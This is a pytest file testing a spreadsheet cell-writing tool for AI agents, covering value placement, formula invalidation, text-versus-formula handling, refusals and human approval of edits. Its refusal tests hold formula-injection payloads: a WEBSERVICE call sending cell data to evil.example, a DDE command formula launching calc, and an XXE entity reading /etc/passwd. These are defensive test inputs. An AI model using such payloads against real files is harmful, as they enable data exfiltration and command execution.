"""Cells that agents write: read back by a library of somebody else, everything beside them as it was, and no text becomes a formula."""

import io
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from python_calamine import CalamineWorkbook

from agents.conftest import Make
from agents.test_loop import call, told
from counterfoil import agent, approve, changes, files, workflow
from counterfoil.authoring.agents import workbook_parts
from counterfoil.authoring.agents.formula_words import understood
from counterfoil.authoring.agents.paging import Refused
from counterfoil.authoring.agents.sheet_tools import Cell, write_cells
from counterfoil.facts import RunState
from counterfoil.previews.formulas import formulas_of
from engine.doing import Nothing
from house.repository import ROOT
from previews.books import MAIN, Cells, sheet, xlsx

SAMPLES = ROOT / "tests/samples/spreadsheets/calamine"
LINES: dict[str, Cells | bytes] = {
    "Sums": [["Item", "Amount", "Twice"], ["a", 10, ("B2*2", 20)], ["b", 5, ("B3*2", 10)], ["Sum", ("SUM(B2:B3)", 15)]],
    "Other": [["Total", ("Sums!B4+1", 16)], ["Apart", ("40+2", 42)]],
}


def values(name: str, path: str = "a.xlsx") -> list[list[object]]:
    """What calamine reads in a sheet, from its first cell on."""
    with CalamineWorkbook.from_filelike(io.BytesIO(files().read(path))) as book:
        return [list(row) for row in book.get_sheet_by_name(name).to_python(skip_empty_area=False)]


def formulas(name: str, path: str = "a.xlsx") -> dict[tuple[int, int], str]:
    """The formulas of a sheet."""
    return (formulas_of(files().read(path)) or {})[name]


def parts(data: bytes) -> dict[str, bytes]:
    """The parts of a workbook."""
    with zipfile.ZipFile(io.BytesIO(data)) as packed:
        return {name: packed.read(name) for name in packed.namelist()}


def torn(data: bytes, part: bytes) -> bytes:
    """The workbook with bytes in a part that cannot be unpacked."""
    at = data.index(part) + len(part)
    return data[:at] + b"\xff" * 8 + data[at + 8 :]


@pytest.fixture
def book(folder: Path) -> Path:
    """A workbook with formulas."""
    (folder / "a.xlsx").write_bytes(xlsx(LINES))
    return folder / "a.xlsx"


def test_values_stand_where_they_were_asked_for_and_formulas_stay(book: Path) -> None:
    said = write_cells(
        "a.xlsx",
        [
            Cell("B2", number=Decimal("12.50")),
            Cell("D3", text="seen"),
            Cell("A9", day=date(2026, 11, 30)),
            Cell("A3", text=""),
        ],
    )
    assert said.startswith("4 cells are written in “a.xlsx”, sheet “Sums”.")
    found = values("Sums")
    assert found[1][:2] == ["a", 12.5]
    assert found[2][0] == ""
    assert found[2][3] == "seen"
    assert found[8][0] == 46356  # the day as spreadsheets count; this workbook has no formats to show it as one
    assert formulas("Sums") == {(1, 2): "B2*2", (2, 2): "B3*2", (3, 1): "SUM(B2:B3)"}


def test_what_is_worked_out_from_a_changed_cell_is_known_no_more_and_all_else_is(book: Path) -> None:
    write_cells("a.xlsx", [Cell("B2", number=Decimal(11))])
    assert values("Sums")[1][2] == ""  # B2*2
    assert values("Sums")[2][2] == 10  # B3*2
    assert values("Sums")[3][1] == ""  # the sum
    assert values("Other") == [["Total", ""], ["Apart", 42]]  # what draws on the sum, in another sheet
    assert b'fullCalcOnLoad="1"' in parts(files().read("a.xlsx"))["xl/workbook.xml"]


def test_a_long_chain_is_followed_and_what_is_apart_from_it_keeps_its_values(folder: Path) -> None:
    rows = [[1, (f"A{n}+B{n - 1}" if n > 1 else "A1", n), ("SUM(A60:A1)", 60), (f"E{n}", 0)] for n in range(1, 61)]
    (folder / "a.xlsx").write_bytes(xlsx({"S": rows}))
    write_cells("a.xlsx", [Cell("A31", number=Decimal(2))])
    found = values("S")
    assert [row[1] for row in found] == [*range(1, 31), *[""] * 30]
    assert {row[2] for row in found} == {""}
    assert {row[3] for row in found} == {0}


def test_a_day_before_the_first_one_of_a_workbook_is_refused(book: Path) -> None:
    with zipfile.ZipFile(io.BytesIO(book.read_bytes())) as packed:
        held = {name: packed.read(name) for name in packed.namelist()}
    whole = held["xl/workbook.xml"].replace(b"<sheets>", b'<workbookPr date1904="1"/><sheets>')
    assert whole != held["xl/workbook.xml"]
    with zipfile.ZipFile(book, "w") as out:
        for name, data in (held | {"xl/workbook.xml": whole}).items():
            out.writestr(name, data)
    write_cells("a.xlsx", [Cell("A9", day=date(1904, 1, 2))])
    assert values("Sums")[8][0] in (1, date(1904, 1, 2))
    with pytest.raises(Refused, match="before 1904"):
        write_cells("a.xlsx", [Cell("A9", day=date(1903, 12, 31))])


@pytest.mark.parametrize("text", ["=1+1", "+41 44 1", "-5", "@SUM(A1)", '=HYPERLINK("http://x","y")', "_x0041_", " a "])
def test_a_text_stays_a_text_whatever_it_begins_with(book: Path, text: str) -> None:
    write_cells("a.xlsx", [Cell("A2", text=text)])
    assert values("Sums")[1][0] == text
    assert (1, 0) not in formulas("Sums")


def test_a_text_like_a_formula_is_marked_so_that_editing_it_makes_none(folder: Path) -> None:
    write_cells("new.xlsx", [Cell("A1", text="=1+1"), Cell("A2", text="=2"), Cell("A3", day=date(2026, 1, 2))], "Names")
    made = parts(files().read("new.xlsx"))
    styles = made["xl/styles.xml"].decode()
    assert styles.count('quotePrefix="1"') == 1  # one look for both
    assert made["xl/worksheets/sheet1.xml"].decode().count('s="1"') == 2
    assert values("Names", "new.xlsx") == [["=1+1"], ["=2"], [date(2026, 1, 2)]]
    assert write_cells("new.xlsx", [Cell("B1", number=Decimal(1))]).startswith(
        "1 cell is written in “new.xlsx”, sheet “Names”"
    )


def test_a_formula_is_written_where_one_is_asked_for(book: Path) -> None:
    write_cells("a.xlsx", [Cell("B5", formula="=ROUND(SUM(B2:B3)*1.081,2)"), Cell("B6", formula='Other!B2&" x"')])
    assert formulas("Sums")[4, 1] == "ROUND(SUM(B2:B3)*1.081,2)"
    assert formulas("Sums")[5, 1] == 'Other!B2&" x"'


@pytest.mark.parametrize(
    "formula, told",
    [
        ('=HYPERLINK("http://evil.example","look")', "HYPERLINK is not written"),
        ('=WEBSERVICE("http://evil.example/"&A1)', "WEBSERVICE is not written"),
        ("=cmd|'/c calc'!A1", "neither a cell"),
        ("=[other.xlsx]Sheet1!A1", "neither a cell"),
        ('=INDIRECT("A"&1)', "INDIRECT is not written"),
        ("=Missing!A1", "no sheet “Missing”"),
        ("=profit*2", "neither a cell"),
        ("=B2@", "neither a cell"),
    ],
)
def test_a_formula_that_reaches_out_is_refused(book: Path, formula: str, told: str) -> None:
    with pytest.raises(Refused, match=told):
        write_cells("a.xlsx", [Cell("A2", text="x"), Cell("A3", formula=formula)])
    assert files().read("a.xlsx") == book.read_bytes()


@pytest.mark.parametrize(
    "cell, told",
    [
        (Cell("B4", number=Decimal(1)), r"B4 holds a formula \(=SUM\(B2:B3\)\)"),
        (Cell("b4", number=Decimal(1)), "“b4” is no cell"),
        (Cell("A1048577", text="x"), "is no cell"),
        (Cell("A1"), "one of text, number"),
        (Cell("A1", text="x", number=Decimal(1)), "one of text, number"),
        (Cell("A1", text="x" * 40_000), "longer than 32,767"),
        (Cell("A1", number=Decimal(1234567890123456)), "more than 15 digits"),
        (Cell("A1", day=date(1890, 1, 1)), "before March 1900"),
        (Cell("A1", text="\x00"), "control character"),
    ],
)
def test_what_cannot_stand_there_is_refused_and_nothing_is_written(book: Path, cell: Cell, told: str) -> None:
    with pytest.raises(Refused, match=told):
        write_cells("a.xlsx", [Cell("D1", text="x"), cell])
    assert files().read("a.xlsx") == book.read_bytes()


def test_a_value_takes_the_place_of_a_formula_where_that_is_said(book: Path) -> None:
    write_cells("a.xlsx", [Cell("B4", number=Decimal(15))], replace_formulas=True)
    assert (3, 1) not in formulas("Sums")
    assert values("Sums")[3][1] == 15
    with pytest.raises(Refused, match="named twice"):
        write_cells("a.xlsx", [Cell("A1", text="x"), Cell("A1", text="y")])


SHARED = f"""<worksheet xmlns="{MAIN}"><dimension ref="A1:B3"/><sheetData>
<row r="1"><c r="A1"><v>1</v></c><c r="B1"><f t="shared" ref="B1:B3" si="0">A1*2</f><v>2</v></c></row>
<row r="2" s="0"><c r="A2"><v>2</v></c><c r="B2"><f t="shared" si="0"/><v>4</v></c></row>
<row><c><v>3</v></c><c><f t="shared" si="0"/><v>6</v></c></row>
</sheetData><mergeCells count="1"><mergeCell ref="D1:E2"/></mergeCells></worksheet>"""


def test_formulas_that_are_shared_are_followed_and_not_torn_apart(folder: Path) -> None:
    (folder / "a.xlsx").write_bytes(xlsx({"S": SHARED.encode()}))
    write_cells("a.xlsx", [Cell("A3", number=Decimal(5)), Cell("D1", text="merged"), Cell("F9", text="far")])
    assert [row[1] for row in values("S")[:3]] == [2, 4, ""]
    assert b'ref="A1:F9"' in parts(files().read("a.xlsx"))["xl/worksheets/sheet1.xml"]
    with pytest.raises(Refused, match="the formula that B1:B3 share"):
        write_cells("a.xlsx", [Cell("B1", number=Decimal(5))], replace_formulas=True)
    write_cells("a.xlsx", [Cell(f"B{n}", number=Decimal(n)) for n in (1, 2, 3)], replace_formulas=True)
    assert formulas("S") == {}
    with pytest.raises(Refused, match="part of the merged cells D1:E2; write to D1"):
        write_cells("a.xlsx", [Cell("E2", text="x")])


@pytest.mark.parametrize(
    "inside, told",
    [
        ('<sheetProtection sheet="1"/>', "is protected"),
        ('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', "DOCTYPE|cannot be read"),
    ],
)
def test_sheets_that_are_not_to_be_changed_are_not(folder: Path, inside: str, told: str) -> None:
    plain = sheet([[1]]).decode().replace("</worksheet>", f"{inside}</worksheet>")
    if inside.startswith("<!"):
        plain = inside + sheet([[1]]).decode().partition("?>")[2]
    (folder / "a.xlsx").write_bytes(xlsx({"S": plain.encode()}))
    with pytest.raises(Refused, match=told):
        write_cells("a.xlsx", [Cell("A1", text="x")])


@pytest.mark.parametrize(
    "name, data, told",
    [
        ("a.csv", b"a;b", "no .xlsx or .xlsm"),
        ("a.xlsx", b"no zip", "no .xlsx file that can be changed"),
        ("a.xlsx", b"\xd0\xcf\x11\xe0 locked", "locked with a password"),
        ("a.xlsx", xlsx(LINES, more={"_xmlsignatures/sig1.xml": b"<x/>"}), "is signed"),
        ("a.xlsx", xlsx({"S": b"<worksheet"}), "is damaged"),
        ("a.xlsx", torn(workbook_parts.blank(), b"xl/workbook.xml"), "no .xlsx file that can be changed"),
    ],
)
def test_what_is_no_workbook_is_refused(folder: Path, name: str, data: bytes, told: str) -> None:
    (folder / name).write_bytes(data)
    with pytest.raises(Refused, match=told):
        write_cells(name, [Cell("A1", text="x")])


def test_a_sheet_that_would_fill_the_memory_is_refused(book: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook_parts, "MOST_PARSED", 100)
    with pytest.raises(Refused, match="too large to be changed here"):
        write_cells("a.xlsx", [Cell("A1", text="x")])


def test_of_real_workbooks_nothing_but_the_cell_changes(folder: Path) -> None:
    """Charts, pictures, comments, macros: parts that nobody asked for keep their bytes."""
    tried = 0
    for source in sorted(SAMPLES.glob("*.xls[xm]")):
        before = source.read_bytes()
        name = f"{tried}{source.suffix}"
        (folder / name).write_bytes(before)
        try:
            write_cells(name, [Cell("AZ1", text="=seen")])
        except Refused:
            continue
        tried += 1
        old, new = parts(before), parts(files().read(name))
        allowed = (
            "xl/workbook.xml",
            "xl/styles.xml",
            "xl/worksheets/",
            "xl/calcChain.xml",
            "[Content_Types].xml",
            "xl/_rels/",
        )
        assert {part for part in old if old[part] != new.get(part)} <= {
            part for part in old if part.startswith(allowed)
        }, source.name
        with CalamineWorkbook.from_filelike(io.BytesIO(files().read(name))) as book:
            assert list(book.get_sheet_by_index(0).to_python(skip_empty_area=False)[0])[51] == "=seen", source.name
    assert tried > 15


def test_a_formula_is_understood_as_far_as_it_names_cells() -> None:
    found = understood("SUM($B$2:B9)+'It''s'!C3*IF(A:A>\"B7\",1.5E3,$4:5)")
    assert [(one.sheet, one.rows, one.columns) for one in found.areas] == [
        ("", (2, 9), (2, 2)),
        ("It's", (3, 3), (3, 3)),
        ("", (1, 1_048_576), (1, 1)),
        ("", (4, 5), (1, 16_384)),
    ]
    assert (found.functions, found.strange) == (["SUM", "IF"], "")
    assert found.areas[0].moved(1, 1).rows == (2, 10)
    assert understood("Table1[Amount]+total").strange
    assert understood("SUM(Jan:Mar!B2)").strange
    assert understood("SUM('Jan 24:Mar 24'!B2)").strange
    assert understood("A1:Sheet2!B2").strange or len(understood("A1:Sheet2!B2").areas) == 2


@workflow("booking")
async def booking(p: Nothing) -> str:
    answer = await agent("Enter it.", tools=["files"], rules=False)
    await (await approve("Take it over", plan=await changes())).perform()
    return answer


def test_an_agent_writes_cells_and_a_person_sees_them_before_the_folder_changes(office: Make, tmp_path: Path) -> None:
    file = tmp_path / "workspace" / "a.xlsx"
    before = xlsx(LINES)
    file.write_bytes(before)
    harness = office(
        call("write_cells", path="a.xlsx", cells=[{"at": "B2", "number": "12.50"}, {"at": "A9", "text": "=1+1"}]),
        [call("read_cells", path="a.xlsx"), call("write_file", path="b.xlsx", text="a,b")],
        "Entered.",
    )
    harness.start(booking)
    assert harness.advance() == RunState.WAITING
    said = told(harness)
    assert said[1].startswith("2 cells are written in “a.xlsx”")
    assert "2: a | 12.5 | " in said[2]
    assert "use write_cells" in said[3]
    assert file.read_bytes() == before
    harness.approve()
    assert harness.advance() == RunState.DONE
    with CalamineWorkbook.from_path(file) as book:
        assert book.get_sheet_by_name("Sums").to_python()[8][0] == "=1+1"
